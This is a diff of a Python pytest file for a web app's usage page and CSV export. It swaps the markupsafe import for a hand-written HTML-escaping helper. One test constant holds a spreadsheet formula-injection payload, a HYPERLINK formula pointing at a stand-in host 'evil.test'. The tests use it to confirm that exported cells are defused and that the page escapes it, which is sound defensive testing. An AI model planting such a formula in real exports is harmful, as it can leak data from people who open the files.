@@ -13,7 +13,6 @@ from typing import Any
 
 import httpx
 import pytest
-from markupsafe import escape
 
 from kran.web.pages.admin import limit_values
 from kran.web.pages.usage import csv_text, filled_days, period_bound, safe_cell
@@ -25,6 +24,13 @@ SECRET = re.compile(r'<code class="secret" id="new-secret">([^<]+)</code>')
 KEY_ID = re.compile(r'id="new-key-id">([^<]+)<')
 ALERT = re.compile(r'role="alert"[^>]*>([^<]*)<')
 EVIL_APP = '=HYPERLINK("http://evil.test/?x","a,b")'
+
+
+def escaped(text: str) -> str:
+    """As Jinja's autoescape writes text into a page."""
+    for raw, entity in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ('"', "&#34;"), ("'", "&#39;")):
+        text = text.replace(raw, entity)
+    return text
 
 
 def _finished(server: ServerProc, user: str | None, **body: Any) -> int:
@@ -105,7 +111,7 @@ def test_usage_by_user_and_by_day_with_a_chart_and_the_apis_numbers_in_csv(serve
         assert "'" + EVIL_APP in [row["app"] for row in rows]
         assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
         page = web.get("/ui/usage", params={"by": "app"}).text
-        assert EVIL_APP not in page and str(escape(EVIL_APP)) in page
+        assert EVIL_APP not in page and escaped(EVIL_APP) in page
 
 
 def test_a_whole_days_period_counts_its_last_day(server: ServerProc) -> None:
